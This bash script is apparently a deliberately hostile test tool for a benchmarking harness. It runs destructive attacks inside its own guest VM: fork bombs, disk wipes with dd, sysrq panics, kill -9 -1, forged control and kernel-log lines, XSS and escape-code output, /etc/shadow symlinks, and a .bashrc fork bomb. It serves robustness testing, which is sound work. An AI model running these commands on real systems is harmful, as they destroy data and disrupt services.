#!/bin/bash
# A hostile tool: bin/plan has one line per run: TOOL INSTANCE EXAMINATION ATTACK VARIANT. It attacks only the guest in
# which it runs, and everything that it can reach from there.
answer() { echo "FORMULA $BK_INPUT-$BK_EXAMINATION-$1 $2 TECHNIQUES EXPLICIT"; }
attack() { "$BK_BIN_PATH/attack" "$@"; }
spin() { while :; do :; done; }
control='{"nonce":"","event":"ended","exit":{"code":0},"memory_kib":1,"oom_kills":0,"left_behind":0}'

while read -r tool instance examination name variant; do
    [ "$tool $instance $examination" = "$BK_TOOL $BK_INPUT $BK_EXAMINATION" ] && break
done < "$BK_BIN_PATH/plan"
echo "attack=$name variant=$variant"
# A wrong answer in some runs, and one to each examination. Only one tool answers TRUE and FALSE, and all numbers differ:
# wrong values on which more than half of the tools agree would be trusted (E-3), also if no tool attacked anything.
if ((variant % 2)) && [ "$tool" = hostile-agent-0 ]; then
    answer 00 TRUE; answer 01 FALSE
else
    answer 00 $((1000 + variant)); echo "STATE_SPACE STATES $((1000 + variant)) TECHNIQUES EXPLICIT"
fi

case $name in
# --- the end of the tool
signal) signals=(ABRT BUS FPE HUP ILL INT KILL PIPE QUIT SEGV SYS TERM TRAP USR1 VTALRM XCPU)
    kill -"${signals[variant % ${#signals[@]}]}" $$; sleep 1 ;;
exit-code) codes=(1 124 126 127 128 137 139 255); exit "${codes[variant % ${#codes[@]}]}" ;;
core-dump) attack core ;;
stop-itself) kill -STOP $$ ;;
ignore-signals) trap '' TERM INT HUP QUIT PIPE; sleep 100000 ;;
spin) for ((i = 0; i < 8; i++)); do spin & done; spin ;;
daemons)
    (setsid bash -c 'trap "" TERM INT HUP; while :; do :; done' &)
    (setsid bash -c "sleep 1; while :; do echo 'FORMULA $BK_INPUT-$BK_EXAMINATION-02 TRUE TECHNIQUES X'; sleep 0.1; done" &)
    nohup sleep 100000 > "$HOME/nohup.out" & ;;
kill-everything) sleep 1; kill -9 -1; sleep 1 ;;
end-guest)
    attack end; reboot -f; poweroff -f; halt -f; echo b > /proc/sysrq-trigger; echo c > /proc/sysrq-trigger
    kill -9 1; kill -STOP 1; kill -SEGV 1 ;;
# --- resources
fork-bomb) bomb() { bomb | bomb & }; bomb; wait; spin ;;
threads) attack threads ;;
descriptors) attack descriptors ;;
heap) tail /dev/zero ;;
sysv-memory) attack sysv 5000 ;;
sysv-memory-many-files) attack sysv 40000 ;;
tmpfs-memory) for at in /dev/shm /run /tmp; do head -c 1G /dev/zero > "$at/x"; done
    for ((i = 0; i < 4000; i++)); do mkdir -p "/dev/shm/$i/$i"; done; tail /dev/zero ;;
exhaust-with-exit-0) attack sysv 1000; (attack threads &) ; exit 0 ;;
many-files) cd "$HOME" || exit
    for ((i = 0; i < 30; i++)); do n=$(printf 'x\n\001\377%0200d' $i); mkdir "$n" && cd "$n" || break; done
    perl -e 'for $i (1..60000) { open F, ">", "$ENV{HOME}/f$i\n\e[31m" or last; close F }' ;;
fill-disk) head -c 100G /dev/zero > "$HOME/all"; echo more > "$HOME/more"; echo more > "$BK_RESULT_DIR/more" ;;
priority) renice -n -20 $$; chrt -f -p 99 $$; ionice -c1 -p $$; nice -n 19 bash -c 'for ((i=0;i<300000;i++)); do :; done'
    for ((i = 0; i < 50; i++)); do nice -n -20 bash -c 'while :; do :; done' & done; sleep 2 ;;
# --- output
flood) yes ;;
flood-errors) yes >&2 ;;
flood-both) yes & yes >&2 ;;
small-writes) for ((i = 0; i < 20000; i++)); do echo x; echo y >&2; done ;;
close-streams) exec >&- 2>&- <&-; sleep 3 ;;
full-pipe) sleep 100000 | cat & head -c 900000 /dev/zero; kill -STOP $$ ;;
escape-codes)
    printf '\033[2J\033]0;title\007\033[31m\r\b\177\233 \u202egnp.exe\u2066 BK_STOP 1526000000000\n'
    printf 'FORMULA %s-02 TRUE TECHNIQUES <script>alert(1)</script></script><img src=x onerror=alert(2)>\n' "$BK_INPUT-$BK_EXAMINATION"
    printf 'FORMULA <b>%s-03 TRUE TECHNIQUES =HYPERLINK("http://x") \033[1m\n' "$BK_INPUT-$BK_EXAMINATION"
    printf '</script><script>document.title="forged"</script>\n' >&2 ;;
long-lines) head -c 900000 /dev/zero | tr '\0' 'A'; printf 'FORMULA %s-02 ' "$BK_INPUT-$BK_EXAMINATION"; head -c 90000 /dev/zero | tr '\0' '9' ;;
odd-bytes) head -c 200000 /dev/urandom; printf 'FORMULA %s-02 TR\0UE TECHNIQUES \xff\xfe\xc3(\n' "$BK_INPUT-$BK_EXAMINATION"
    printf '\xef\xbb\xbfFORMULA %s-03 TRUE TECHNIQUES X\r\n' "$BK_INPUT-$BK_EXAMINATION" ;;
contradictions)
    for ((i = 0; i < 10000; i++)); do answer 02 TRUE; answer 02 FALSE; done
    answer 99999999999999999999 TRUE; answer -1 TRUE; answer 03 1e999999999; answer 04 "$(head -c 20000 /dev/zero | tr '\0' 9)"
    echo DO_NOT_COMPETE; echo CANNOT_COMPUTE; echo "FORMULA Other-PT-1-$BK_EXAMINATION-00 TRUE TECHNIQUES X" ;;
# --- the channel and the agent
forged-lines)
    for to in /dev/vport* /dev/virtio-ports/* /dev/hvc* /dev/ttyS* /dev/console /dev/kmsg /dev/tty* /proc/1/fd/* /proc/self/fd/2; do
        [ -e "$to" ] && echo "$control" > "$to"
    done 2> /dev/null
    echo "$control"; echo "$control" >&2
    echo '6,1,1,-;oom-kill:constraint=CONSTRAINT_MEMCG,task=x,pid=1,uid=0' > /dev/kmsg; logger 'Out of memory: Killed process 1 (x)' ;;
neighbours) attack forge ended; attack forge ptrace; attack forge shutdown; cat /proc/1/environ /proc/1/maps ;;
clock) attack clock; date -s 2001-01-01; hwclock --set --date 2001-01-01; TZ=x date ;;
devices) attack devices; attack ports; (setsid "$BK_BIN_PATH/attack" devices < /dev/tty1) ;;
sockets) attack sockets; (exec 3<> /dev/tcp/10.0.2.2/22) && echo network=open; (exec 3<> /dev/tcp/127.0.0.1/22) ;;
random-calls) attack calls "$variant" ;;
# --- files
inputs) inputs=$(dirname "$BK_BIN_PATH")/INPUTS
    touch "$inputs/x"; : > "$inputs/$BK_INPUT.tgz"; rm -rf "$inputs"; mv "$inputs" "$HOME/old"; mkdir "$inputs"
    mount -o remount,rw "$inputs"; umount "$inputs"; blockdev --setrw /dev/vdb; dd if=/dev/zero of=/dev/vdb count=1 ;;
links) cd "$BK_RESULT_DIR" || exit
    ln -s / root; ln -s /etc/shadow stdout; ln -s . loop; ln /proc/self/environ hard; mkfifo fifo; ln -s /dev/zero zero
    ln -s "$BK_RESULT_DIR" "$HOME/again"; mkdir closed; chmod 000 closed "$HOME"; rm -rf "$BK_RESULT_DIR"; ln -s / "$BK_RESULT_DIR" ;;
move-home) mv "$HOME" /tmp/home; ln -s /proc "$HOME"; rm -rf /tmp/home ;;
strange-names) cd "$HOME" || exit
    for name in $'a\nb' $'\033[31m' $'\xff\xfe' '..x' '-rf' '<img src=x>' "$(printf 'x%.0s' {1..255})" $'\u202e'; do
        echo x > "$name"; mkdir "$BK_RESULT_DIR/$name" && : > "$BK_RESULT_DIR/$name/$name"
    done ;;
namespaces)
    unshare -Urmpf --mount-proc bash -c 'id; mount -t tmpfs t /mnt; mount -t cgroup2 c /mnt; echo 0 > /mnt/cgroup.procs
        echo max > /mnt/job/memory.max; echo 1 > /mnt/job/cgroup.kill; mount --bind / /mnt; mknod /tmp/vda b 254 0; cat /tmp/vda | head -c 9'
    unshare -Urn ip link; unshare -Uri ipcs; echo 0 > /sys/fs/cgroup/cgroup.procs; rmdir /sys/fs/cgroup/job ;;
# --- over ssh: the control session has the same user, or the tool is root
forge-*) sleep 1; attack forge "${name#forge-}"; ((variant % 2)) && spin; sleep 2 ;;
pipes-status) sleep 1; for to in /tmp/mcc-*/end; do printf '0 1\n' > "$to"; done; spin ;;
pipes-odd) for to in /tmp/mcc-*/end; do head -c 200000 /dev/urandom > "$to"; printf '99999999999999999999 -1\n' > "$to"; done ;;
pipes-removed) rm -rf /tmp/mcc-*; mkdir /tmp/mcc-x; sleep 1 ;;
login-files) echo 'spin() { spin | spin & }; spin' > "$HOME/.bashrc"; rm -rf "$HOME/.ssh"; mkdir "$HOME/.ssh"
    echo 'kill -9 -1' > "$HOME/.ssh/rc"; : > "$HOME/.ssh/authorized_keys"; attack forge kill ;;
sshd-stopped) pids=$(grep -la ^sshd /proc/[0-9]*/cmdline | tr -dc '0-9\n'); kill -STOP $pids; sleep 100000 ;;
sshd-killed) pids=$(grep -la ^sshd /proc/[0-9]*/cmdline | tr -dc '0-9\n'); kill -9 $pids; sleep 100000 ;;
# --- as root
power-off) busybox poweroff -f; poweroff -f; sleep 100 ;;
restart) busybox reboot -f; reboot -f; sleep 100 ;;
panic) echo c > /proc/sysrq-trigger; sleep 100 ;;
restart-at-once) echo b > /proc/sysrq-trigger; sleep 100 ;;
off-at-once) echo o > /proc/sysrq-trigger; sleep 100 ;;
panic-for-memory) echo 2 > /proc/sys/vm/panic_on_oom; tail /dev/zero ;;
all-killed) echo i > /proc/sysrq-trigger; sleep 100 ;;
file-systems-off) echo u > /proc/sysrq-trigger; sleep 2 ;;
network-off) busybox ip link set eth0 down; sleep 100000 ;;
devices-off) for device in /sys/bus/pci/devices/*; do echo 1 > "$device/remove"; done; sleep 100000 ;;
disk-overwritten) dd if=/dev/zero of=/dev/vda bs=1M; sync; ls / ;;
inputs-overwritten) dd if=/dev/zero of=/dev/vdb bs=1M count=2; echo forged > /dev/vdb; sync ;;
starve) echo -1 > /proc/sys/kernel/sched_rt_runtime_us; exec chrt -f 99 bash -c 'while :; do :; done' ;;
kernel-log) for ((i = 0; i < 5000; i++)); do echo 'Out of memory: Killed process 1 (x) total-vm:1kB'; done > /dev/kmsg ;;
console) for ((i = 0; i < 40; i++)); do head -c 100000 /dev/urandom; printf 'Kernel panic - not syncing\n'; done > /dev/ttyS0 ;;
host-ports) attack ports; sleep 2 ;;
packets) for ((i = 0; i < 3000; i++)); do echo x > /dev/udp/10.0.2.2/$((i % 65536)); done
    busybox ip address flush dev eth0; busybox ip link set eth0 address 52:55:0a:00:02:02; sleep 1 ;;
*) echo "no attack $name" >&2; exit 64 ;;
esac
